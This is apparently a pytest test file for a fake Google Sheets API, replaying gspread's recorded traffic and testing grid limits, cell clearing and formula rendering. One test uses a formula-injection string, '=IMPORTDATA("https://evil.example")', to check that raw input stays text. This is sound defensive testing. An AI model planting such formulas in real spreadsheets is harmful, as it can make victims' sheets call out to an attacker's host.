"""The fake Sheets API answers like the real one: gspread's recorded traffic replayed against it.

The recordings (tests/fixtures/google-sheets-api, from gspread's test suite, MIT) are real HTTP
exchanges with Sheets API v4. Every Sheets request in them is sent to the fake, in order, and the
fake's answer must equal the recorded one (the spreadsheet's metadata: the parts the fake models).
Drive requests (creating and deleting the test files) are played by creating and dropping the
spreadsheet in the fake directly.
"""

import json
from pathlib import Path

import pytest
import requests
import responses

from tests.fake_sheets import BASE, FakeSheetsAPI, Formula

CASSETTES = Path(__file__).resolve().parent / "fixtures" / "google-sheets-api"
NAMES = sorted(p.name for p in CASSETTES.glob("*.json"))


def interactions(name: str) -> list[dict]:
    return json.loads((CASSETTES / name).read_text(encoding="utf-8"))["interactions"]


def test_the_recordings_are_there():
    assert len(NAMES) == 4


@pytest.mark.parametrize("name", NAMES)
def test_the_fake_answers_every_recorded_sheets_request_like_the_real_api(name):
    api = FakeSheetsAPI()
    compared = 0
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        api.register(mock)
        for exchange in interactions(name):
            request, response = exchange["request"], exchange["response"]
            uri, method = request["uri"], request["method"]
            recorded = response["body"]["string"]
            if uri.startswith("https://www.googleapis.com/drive/"):
                if method == "POST":
                    created = json.loads(recorded)
                    api.create(created["id"], title=created["name"])
                continue
            assert uri.startswith(BASE)
            if request["body"] and '"addSheet"' in request["body"]:
                for reply in json.loads(recorded)["replies"]:
                    api.next_sheet_ids.append(reply["addSheet"]["properties"]["sheetId"])
            answer = requests.request(
                method, uri, data=request["body"], headers={"Authorization": "Bearer test"}
            )
            assert answer.status_code == response["status"]["code"], (uri, answer.text)
            expected, actual = json.loads(recorded), answer.json()
            if method == "GET" and "includeGridData" in uri:
                assert_same_metadata(actual, expected)
            else:
                assert actual == expected, uri
            compared += 1
    assert compared >= 5


def assert_same_metadata(actual: dict, expected: dict) -> None:
    assert actual["spreadsheetId"] == expected["spreadsheetId"]
    assert actual["sheets"] == expected["sheets"]
    assert actual["spreadsheetUrl"] == expected["spreadsheetUrl"]
    assert set(actual) <= set(expected)
    for key, value in actual["properties"].items():
        assert expected["properties"][key] == value, key


def test_the_recordings_show_what_the_fake_models():
    """The shapes the fake must get right are really in the recordings (so the test above checks them)."""
    bodies = [x["response"]["body"]["string"] for name in NAMES for x in interactions(name)]
    assert any('"range": "\'🌵 test_values_batch_get 1\'!A1:A10"' in b for b in bodies)  # quoted, clipped
    assert any(
        '"range": "Sheet1!A1:D2",\n  "majorDimension": "ROWS"\n}' in b for b in bodies
    )  # no values key
    assert any("[],\n    [],\n" in b for b in bodies)  # empty interior rows
    assert any("43831" in b for b in bodies)  # a date as a serial number
    assert any('"totalUpdatedCells": 8' in b for b in bodies)


# --- the fake's own behaviour, beyond what the recordings show ---------------------------------


@pytest.fixture
def api():
    fake = FakeSheetsAPI()
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        fake.register(mock)
        fake.create("key", tabs={"Sheet1": [["a", "b"]]})
        yield fake


def call(method: str, path: str, **kwargs) -> requests.Response:
    return requests.request(method, f"{BASE}/key{path}", headers={"Authorization": "Bearer test"}, **kwargs)


def test_writing_outside_the_grid_is_a_400_naming_the_limits(api):
    body = {"valueInputOption": "RAW", "data": [{"range": "Sheet1!A1:Z5000", "values": [["x"]] * 5000}]}
    answer = call("POST", "/values:batchUpdate", json=body)
    assert answer.status_code == 400
    assert answer.json()["error"]["message"] == (
        "Range (Sheet1!A1:Z5000) exceeds grid limits. Max rows: 1000, max columns: 26"
    )
    assert api.spreadsheets["key"]["Sheet1"].value(5, 1) is None  # nothing of it was applied


def test_raw_text_stays_text_and_user_entered_formulas_become_formulas(api):
    evil = '=IMPORTDATA("https://evil.example")'
    call(
        "POST",
        "/values:batchUpdate",
        json={"valueInputOption": "RAW", "data": [{"range": "Sheet1!A2", "values": [[evil]]}]},
    )
    call("PUT", "/values/Sheet1!A3", params={"valueInputOption": "USER_ENTERED"}, json={"values": [[evil]]})
    sheet = api.spreadsheets["key"]["Sheet1"]
    assert sheet.value(2, 1) == evil
    assert isinstance(sheet.value(3, 1), Formula)


def test_null_leaves_a_cell_alone_and_an_empty_string_clears_it(api):
    call(
        "POST",
        "/values:batchUpdate",
        json={"valueInputOption": "RAW", "data": [{"range": "Sheet1!A1:B1", "values": [[None, ""]]}]},
    )
    sheet = api.spreadsheets["key"]["Sheet1"]
    assert sheet.value(1, 1) == "a" and sheet.value(1, 2) is None


def test_a_range_starting_beyond_the_grid_cannot_be_read(api):
    answer = call("GET", "/values:batchGet", params={"ranges": ["Sheet1!AA1:AA2"]})
    assert answer.status_code == 400 and "exceeds grid limits" in answer.json()["error"]["message"]


def test_columns_major_dimension_and_unknown_tabs(api):
    answer = call("GET", "/values:batchGet", params={"ranges": ["Sheet1!1:1"], "majorDimension": "COLUMNS"})
    assert answer.json()["valueRanges"] == [
        {"range": "Sheet1!A1:Z1", "majorDimension": "COLUMNS", "values": [["a"], ["b"]]}
    ]
    assert call("GET", "/values:batchGet", params={"ranges": ["Nope"]}).status_code == 400


def test_a_spreadsheet_batch_update_is_all_or_nothing(api):
    body = {
        "requests": [
            {"appendDimension": {"sheetId": 0, "dimension": "ROWS", "length": 5}},
            {"appendDimension": {"sheetId": 99, "dimension": "ROWS", "length": 5}},
        ]
    }
    answer = call("POST", ":batchUpdate", json=body)
    assert answer.status_code == 400 and "No grid with id: 99" in answer.json()["error"]["message"]
    assert api.spreadsheets["key"]["Sheet1"].rows == 1000


def test_formula_render_shows_formulas_as_text_and_every_other_cell_as_unformatted_value():
    """Not in the recordings; as the API reference documents ValueRenderOption: FORMULA returns
    formulas, other cells as UNFORMATTED_VALUE does (dates as serial numbers with SERIAL_NUMBER)."""
    import datetime as dt

    fake = FakeSheetsAPI()
    with responses.RequestsMock(assert_all_requests_are_fired=False) as mock:
        fake.register(mock)
        empty = Formula('=IF(A1="x","y","")', "")
        fake.create(
            "key",
            tabs={
                "Sheet1": [
                    ["text", 7, 2.5, True, dt.date(2020, 1, 1), Formula("=4/2", 2), empty],
                    ["=not a formula", None, "", False],
                ]
            },
        )

        def rows(render):
            params = {
                "ranges": ["Sheet1!A1:G2"],
                "valueRenderOption": render,
                "dateTimeRenderOption": "SERIAL_NUMBER",
            }
            return call("GET", "/values:batchGet", params=params).json()["valueRanges"][0]["values"]

        unformatted, formula = rows("UNFORMATTED_VALUE"), rows("FORMULA")
    assert unformatted == [["text", 7, 2.5, True, 43831, 2], ["=not a formula", "", "", False]]
    assert formula == [
        ["text", 7, 2.5, True, 43831, "=4/2", '=IF(A1="x","y","")'],
        ["=not a formula", "", "", False],
    ]
